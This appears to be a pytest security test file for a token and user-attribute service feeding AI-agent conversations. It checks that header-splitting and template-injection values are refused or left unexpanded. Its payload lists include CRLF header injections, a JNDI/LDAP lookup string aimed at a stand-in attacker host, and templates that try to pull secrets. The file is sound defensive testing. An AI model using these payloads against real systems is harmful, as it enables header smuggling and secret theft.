"""Attacks through values: what a token, an attribute or a caller says is text, and nothing more."""

from typing import Any

import pytest
from conftest import Tenant
from support.talking import AGENT, Stage

BREAKING = [
    "tok\r\nX-Evil: 1",
    "tok\nX-Evil: 1",
    "tok\n",
    "tok\x00",
    "tok\x7f",
    "tok\u2028X-Evil: 1",
    "tök",
]
READS_LIKE_A_TEMPLATE = [
    "{{secret__keyturn_authorization}}",
    "{{system__env_api_key}}",
    "${jndi:ldap://evil.example}",
    "%0d%0aX-Evil:%201",
    "a.b-c_d~e+f/g=",
]
HEADER = "secret__user_acme_authorization"


@pytest.mark.parametrize("field", ["access_token", "refresh_token"])
@pytest.mark.parametrize("token", BREAKING)
async def test_a_token_that_would_break_a_header_is_never_taken(
    stage: Stage, tenant: Tenant, field: str, token: str
) -> None:
    talk = await stage.begin()
    body = {"access_token": "fine", field: token}
    refused = await tenant.api.put("/v1/users/ada/connections/acme", body)
    assert (refused.status, refused.code) == (422, "invalid")
    assert b"Evil" not in refused.body
    assert (await talk.call("GET", "acme/me")).status == 200
    assert [one.token for one in talk.listens.heard] == talk.tokens
    assert "x-evil" not in talk.listens.heard[0].headers


@pytest.mark.parametrize("token", READS_LIKE_A_TEMPLATE)
async def test_a_token_that_reads_like_a_template_is_sent_as_it_is(
    stage: Stage, tenant: Tenant, token: str
) -> None:
    talk = await stage.begin()
    body = {"access_token": token, "expires_in": 3600}
    kept = await tenant.api.put("/v1/users/ada/connections/acme", body)
    assert kept.status == 200, kept.body
    assert (await talk.call("GET", "acme/me")).status == 200
    assert [one.token for one in talk.listens.heard] == [token]
    found = await talk.refresh({"integration": "acme"})
    assert found.json["variables"][HEADER] == f"Bearer {token}"


async def minted(tenant: Tenant, attributes: dict[str, Any], **variables: Any) -> dict[str, Any]:
    """What is delivered for a user of these attributes."""
    assert (await tenant.api.put("/v1/users/ada", {"attributes": attributes})).status in (200, 201)
    profile = {"runtime": "sealed", "integrations": [], "variables": variables}
    assert (await tenant.api.put(f"/v1/agents/{AGENT}", profile)).status in (200, 201)
    wanted = {"agent_id": AGENT, "user_id": "ada", "delivery": "inline"}
    reply = await tenant.api.post("/v1/conversations", wanted)
    assert reply.status == 201, reply.body
    found: dict[str, Any] = reply.json["dynamic_variables"]
    return found


@pytest.mark.parametrize(
    "said",
    ["{{secret__keyturn_authorization}}", "{{system__env_api_key}}", "{{user_id}}", "a\r\nb: c"],
)
async def test_what_an_attribute_says_is_never_expanded(tenant: Tenant, said: str) -> None:
    plan = {"from": "user", "attribute": "plan"}
    found = await minted(tenant, {"plan": said}, tier=plan)
    assert found["tier"] == said
    assert "Bearer ktg_" in found["secret__keyturn_authorization"]


@pytest.mark.parametrize("said", BREAKING)
async def test_an_attribute_that_would_break_a_header_fills_none(tenant: Tenant, said: str) -> None:
    plan = {"from": "user", "attribute": "plan"}
    found = await minted(tenant, {"plan": said}, secret__tier=plan)
    assert found["secret__tier"] == "unavailable"
    fine = await minted(tenant, {"plan": "gold"}, secret__tier=plan)
    assert fine["secret__tier"] == "gold"


@pytest.mark.parametrize("name", ["secret__x", "system__env_host", "user_id", "{{x}}", "a b", ""])
async def test_no_attribute_takes_the_name_of_what_is_ours(tenant: Tenant, name: str) -> None:
    reply = await tenant.api.put("/v1/users/ada", {"attributes": {name: "forged"}})
    if reply.status == 422:
        return
    found = await minted(tenant, {name: "forged"})
    assert found["user_id"] == "ada"
    assert "forged" not in found.values()
